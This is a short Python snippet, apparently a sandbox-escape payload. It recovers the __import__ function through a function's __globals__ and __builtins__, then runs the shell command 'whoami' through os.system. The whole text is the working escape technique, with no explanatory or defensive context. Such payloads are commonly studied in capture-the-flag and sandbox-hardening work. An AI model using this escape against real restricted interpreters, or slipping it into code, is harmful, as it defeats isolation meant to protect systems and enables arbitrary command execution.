def f():
    pass
g = f.__globals__
bi = g["__builtins__"]
imp = bi.__import__ if hasattr(bi, "__import__") else bi["__import__"]
imp("os").system("whoami")
